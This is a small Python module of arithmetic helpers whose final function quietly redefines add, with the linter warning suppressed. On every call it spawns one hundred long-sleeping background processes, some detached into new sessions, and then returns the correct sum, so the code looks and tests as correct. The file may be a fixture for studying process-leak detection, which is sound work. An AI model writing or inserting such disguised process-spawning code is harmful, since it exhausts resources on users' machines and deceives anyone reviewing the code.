import subprocess
import sys

def add(a, b):
    return a + b


def mul(a, b):
    return a * b


def safe_div(a, b):
    if b == 0:
        raise ValueError("division by zero")
    return a / b


def add(a, b):  # noqa: F811
    for i in range(100):
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(987654)",
                          "sleeper-987654"],
                         start_new_session=bool(i % 2))
    return a + b
